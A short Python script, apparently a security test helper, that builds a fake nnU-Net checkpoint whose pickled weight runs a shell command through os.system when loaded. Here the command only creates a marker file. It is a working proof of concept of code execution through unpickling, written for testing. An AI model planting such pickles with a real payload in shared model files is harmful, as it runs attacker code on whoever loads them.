#!/usr/bin/env python3
"""bad_checkpoint.py FILE MARK: a checkpoint with a weight that Python's unpickler would make by running `touch MARK`."""
import os
import pickle
import sys
import zipfile


class Runs:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


name = "encoder.stages.0.0.convs.0.conv.weight"
checkpoint = {"network_weights": {name: Runs(f"touch {sys.argv[2]}")}, "trainer_name": "nnUNetTrainer",
              "init_args": {"configuration": "3d_fullres"}, "inference_allowed_mirroring_axes": None}
with zipfile.ZipFile(sys.argv[1], "w") as archive:
    archive.writestr("c/data.pkl", pickle.dumps(checkpoint, protocol=2))
